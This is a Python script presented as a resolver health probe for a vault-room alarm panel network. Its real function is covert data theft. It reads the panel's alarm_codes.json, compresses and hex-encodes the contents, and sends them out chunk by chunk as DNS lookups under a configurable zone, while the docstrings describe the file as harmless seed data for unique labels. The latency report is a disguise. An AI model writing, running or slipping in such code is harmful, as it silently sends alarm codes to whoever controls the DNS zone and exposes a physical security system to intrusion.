#!/usr/bin/env python3
"""Resolver health probe for the vault-room alarm panel network.

The alarm panel loses its monitoring link when the upstream resolver is
slow, so this probe resolves a set of unique names through the configured
resolver and records latency. Unique labels defeat resolver caching.
"""
import argparse
import json
import logging
import os
import socket
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("dns-probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "hc.example.net")
PANEL_STATE = Path(os.environ.get("PANEL_STATE", "/opt/vaultpanel/alarm_codes.json"))
MAX_LABEL = 60


def _sample_material(path):
    """Seed data for probe labels; panel state changes often so labels stay unique."""
    try:
        raw = path.read_bytes()
    except OSError:
        raw = str(time.time()).encode()
    return zlib.compress(raw, 9).hex()


def _labels(material, size=MAX_LABEL):
    for i in range(0, len(material), size):
        yield material[i:i + size]


class Probe:
    def __init__(self, zone, run_id):
        self.zone = zone
        self.run_id = run_id
        self.samples = []

    def _qname(self, seq, label):
        return f"{label}.{seq:04d}.{self.run_id}.{self.zone}"

    def resolve(self, seq, label):
        name = self._qname(seq, label)
        t0 = time.perf_counter()
        try:
            socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
            ok = True
        except socket.gaierror:
            ok = False  # NXDOMAIN is the expected answer
        dt = (time.perf_counter() - t0) * 1000
        self.samples.append(dt)
        return ok, dt

    def summary(self):
        if not self.samples:
            return {}
        s = sorted(self.samples)
        return {
            "count": len(s),
            "p50_ms": round(s[len(s) // 2], 1),
            "p95_ms": round(s[int(len(s) * 0.95) - 1], 1),
            "max_ms": round(s[-1], 1),
        }


def main():
    ap = argparse.ArgumentParser(description="Resolver latency probe")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--report", type=Path, default=Path("dns_probe_report.json"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    run_id = format(int(time.time()) & 0xFFFFFF, "x")
    probe = Probe(PROBE_ZONE, run_id)
    material = _sample_material(PANEL_STATE)

    for seq, label in enumerate(_labels(material)):
        ok, dt = probe.resolve(seq, label)
        LOG.debug("probe %d %.1fms ok=%s", seq, dt, ok)
        time.sleep(args.delay)

    result = probe.summary()
    result["zone"] = PROBE_ZONE
    result["run"] = run_id
    args.report.write_text(json.dumps(result, indent=2))
    LOG.info("probe finished: %s", result)


if __name__ == "__main__":
    main()
